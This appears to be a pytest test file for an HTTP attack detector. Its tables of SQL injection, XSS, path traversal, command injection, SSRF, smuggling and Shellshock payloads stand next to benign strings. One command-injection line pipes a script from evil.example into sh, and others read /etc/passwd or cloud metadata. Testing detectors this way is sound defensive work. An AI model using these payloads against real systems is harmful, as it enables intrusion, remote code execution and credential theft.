"""Attack and benign tables through the detector: the class found and the action's score."""

from __future__ import annotations

from urllib.parse import quote

import pytest

from security.detect.engine import Detector
from security.detect.request import HttpRequest, Value

BROWSER = (
    ("user-agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) Safari/605.1.15"),
    ("accept", "text/html"),
)
DETECTOR = Detector(paranoia=1)


def inspect_query(value: str) -> tuple[int, set[str]]:
    verdict = DETECTOR.inspect(HttpRequest("GET", "/api/search", "q=" + quote(value), BROWSER))
    return verdict.score, {t.type for t in verdict.threats}


ATTACKS = [
    ("sqli", "1' OR '1'='1"),
    ("sqli", "admin'--"),
    ("sqli", "1 UNION ALL SELECT NULL,version(),NULL-- -"),
    ("sqli", "1/**/UnIoN/**/SeLeCt/**/password/**/FrOm/**/users"),
    ("sqli", "1 AND SLEEP(5)"),
    ("sqli", "'; WAITFOR DELAY '0:0:5'--"),
    ("sqli", "1 AND extractvalue(1,concat(0x7e,version()))"),
    ("sqli", "x' AND 1=(SELECT COUNT(*) FROM information_schema.tables)#"),
    ("sqli", "%2527%2520or%25201%253D1--"),  # double URL-encoded
    ("sqli", "1; DROP TABLE pitches"),
    ("sqli", "1) AND ELT(5506=7701,1)"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "<ScRiPt >prompt`1`</sCrIpT>"),
    ("xss", "<img src=x onerror=alert(document.domain)>"),
    ("xss", "<svg/onload=confirm(1)>"),
    ("xss", '"><iframe src=javascript:alert(1)>'),
    ("xss", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("xss", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),  # full-width brackets
    ("xss", "jav&#x09;ascript:alert(1)"),
    ("xss", '" autofocus onfocus="alert(1)'),
    ("xss", "{{constructor.constructor('alert(1)')()}}"),
    ("path_traversal", "../../../../etc/passwd"),
    ("path_traversal", "..%252f..%252f..%252fetc%252fshadow"),
    ("path_traversal", "....//....//....//windows/win.ini"),
    ("path_traversal", "..\\..\\..\\boot.ini"),
    ("path_traversal", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/hosts"),
    ("path_traversal", "php://filter/convert.base64-encode/resource=index.php"),
    ("command_injection", "; cat /etc/passwd"),
    ("command_injection", "| id"),
    ("command_injection", "$(whoami)"),
    ("command_injection", "`sleep 5`"),
    ("command_injection", "a;${IFS}cat${IFS}/etc/passwd"),
    ("command_injection", "x && curl http://evil.example/x.sh | sh"),
    ("command_injection", "() { :; }; /bin/bash -c id"),
    ("command_injection", "%0aid%0a"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/"),
    ("ssrf", "http://2852039166/latest/meta-data/"),
    ("ssrf", "http://0x7f000001:8080/admin"),
    ("ssrf", "http://0177.0.0.1/"),
    ("ssrf", "http://[::ffff:127.0.0.1]/"),
    ("ssrf", "http://[::ffff:a9fe:a9fe]/"),
    ("ssrf", "http://127.1/"),
    ("ssrf", "http://evil.com@localhost/"),
    ("ssrf", "gopher://127.0.0.1:6379/_FLUSHALL"),
    ("ssrf", "http://metadata.google.internal/computeMetadata/v1/"),
    ("ssrf", "http://10.0.0.1.nip.io/"),
]

BENIGN = [
    "It's the director's cut, isn't it?",
    "O'Reilly & Sons: a family drama",
    "Tom and Jerry's union of two worlds",
    "select the best option from the drop-down menu",
    "order by date, newest first",
    "rock 'n' roll",
    "5 < 10 and 20 > 15",
    "I love JavaScript: it's great",
    "See https://pitchey.com/pitches/42 and http://example.org/a?b=c",
    "price: $100 - $200",
    "email me at jane.doe@example.com",
    "C:\\Users\\jane\\Documents\\pitch.pdf",
    "The Shawshank Redemption (1994)",
    '<b>bold</b> and <i>italic</i> and <a href="https://pitchey.com">a link</a>',
    "if x == 1 or y != 2: return True",
    "for (let i = 0; i < n; i++) { total += i; }",
    "SELECT name FROM pitches",
    "50% off -- limited time",
    "R&D; find out more",
    'he said "wow!" -- then left',
    "naïve café résumé 日本語 🎬",
    "#horror #thriller @festival",
    "../README.md",
]


@pytest.mark.parametrize(("threat", "payload"), ATTACKS)
def test_attacks_are_blocked_and_classified(threat: str, payload: str) -> None:
    score, types = inspect_query(payload)
    assert score >= 5, (payload, score, types)
    assert threat in types


@pytest.mark.parametrize("text", BENIGN)
def test_benign_text_is_not_flagged(text: str) -> None:
    score, types = inspect_query(text)
    assert score < 3, (text, types)  # below the challenge score: the request is allowed


def test_a_relative_link_is_at_most_a_notice() -> None:
    assert inspect_query("../README.md") == (2, {"path_traversal"})


@pytest.mark.parametrize(
    ("request_", "rule"),
    [
        (HttpRequest("TRACE", "/", "", BROWSER), "proto-method"),
        (HttpRequest("GET", "/wp-login.php", "", BROWSER), "scanner-probe-path"),
        (
            HttpRequest("GET", "/", "", (("user-agent", "sqlmap/1.7.2#stable"),)),
            "scanner-tool-agent",
        ),
        (
            HttpRequest("GET", "/", "", (*BROWSER, ("x-forwarded-host", "a\r\nSet-Cookie: x"))),
            "proto-header-injection",
        ),
        (
            HttpRequest(
                "POST",
                "/",
                "",
                (*BROWSER, ("transfer-encoding", "chunked"), ("content-length", "3")),
            ),
            "proto-smuggling",
        ),
        (
            HttpRequest("GET", "/", "", (("user-agent", "() { :; }; echo; /bin/cat /etc/passwd"),)),
            "cmdi-shellshock",
        ),
        (
            HttpRequest(
                "POST",
                "/api/pitches",
                "",
                (*BROWSER, ("content-type", "application/json")),
                '{"pitch": {"tags": ["ok", "<script>alert(1)</script>"]}}',
            ),
            "xss-script-tag",
        ),
        (
            HttpRequest(
                "POST",
                "/login",
                "",
                (*BROWSER, ("content-type", "application/x-www-form-urlencoded")),
                "user=admin%27--&pw=x",
            ),
            "sqli-unbalanced-comment",
        ),
        (
            HttpRequest("GET", "/", "", (*BROWSER, ("cookie", "session=abc; pref=' OR 1=1--"))),
            "sqli-boolean-literals",
        ),
    ],
)
def test_requests_are_inspected_in_every_place_an_attacker_controls(
    request_: HttpRequest, rule: str
) -> None:
    assert rule in {t.rule for t in DETECTOR.inspect(request_).threats}


def test_the_location_and_evidence_name_where_and_what() -> None:
    verdict = DETECTOR.inspect(
        HttpRequest(
            "POST",
            "/api/pitches",
            "",
            (*BROWSER, ("content-type", "application/json")),
            '{"title": "x", "meta": {"link": "http://127.0.0.1/"}}',
        )
    )
    [threat] = verdict.threats
    assert (threat.type, threat.location, threat.rule, threat.score, threat.evidence) == (
        "ssrf",
        "body.meta.link",
        "ssrf-internal-host",
        5,
        "http://127.0.0.1/",
    )


def test_paranoia_levels_add_broader_rules() -> None:
    request = HttpRequest("GET", "/", "q=" + quote("<div class='x' title=y>"), BROWSER)
    assert Detector(paranoia=1).inspect(request).score == 0
    assert Detector(paranoia=2).inspect(request).score == 3
    curl = HttpRequest("GET", "/", "", (("user-agent", "curl/8.5.0"), ("accept", "*/*")))
    assert Detector(paranoia=1).inspect(curl).threats == ()
    assert [t.rule for t in Detector(paranoia=2).inspect(curl).threats] == ["bot-automation-agent"]


def test_disabled_rules_do_not_run_and_evidence_is_scrubbed() -> None:
    request = HttpRequest("GET", "/", "q=" + quote("' or email='bob@example.com'--"), BROWSER)
    scrubbed = Detector(scrub=lambda text: text.replace("bob@example.com", "[email]"))
    assert all("bob" not in t.evidence for t in scrubbed.inspect(request).threats)
    rules = {t.rule for t in DETECTOR.inspect(request).threats}
    fewer = Detector(disabled=rules - {"sqli-unbalanced-comment"}).inspect(request)
    assert {t.rule for t in fewer.threats} == {"sqli-unbalanced-comment"}


def test_a_remembered_value_answers_as_the_first_time_wherever_it_appears() -> None:
    detector = Detector(paranoia=1)
    hostile = HttpRequest("GET", "/api/search", "q=" + quote("<script>alert(1)</script>"), BROWSER)
    first = detector.inspect(hostile)
    again = detector.inspect(hostile)
    assert again == first and again.score >= 5
    # The same text under another parameter is its own entry: evidence names where it was.
    moved = detector.inspect(
        HttpRequest("GET", "/api/search", "x=" + quote("<script>alert(1)</script>"), BROWSER)
    )
    assert {t.location for t in moved.threats} == {"query.x"}
    # A caller mutating the list it got back changes nothing remembered.
    value = Value("query", "query.q", False, "<script>alert(1)</script>")
    detector.inspect_value(value).clear()
    assert detector.inspect_value(value) != []


def test_remembered_header_findings_leave_method_and_url_findings_to_each_request() -> None:
    detector = Detector(paranoia=1)
    smuggling = (*BROWSER, ("transfer-encoding", "chunked"), ("content-length", "4"))
    first = detector.inspect(HttpRequest("POST", "/api/pitches", "", smuggling))
    second = detector.inspect(HttpRequest("TRACE", "/api/x%00", "", smuggling))
    assert {t.rule for t in first.threats} == {"proto-smuggling"}
    assert {t.rule for t in second.threats} >= {
        "proto-smuggling",
        "proto-method",
        "proto-null-byte",
    }
    clean = detector.inspect(HttpRequest("GET", "/api/pitches", "", BROWSER))
    assert clean.threats == ()
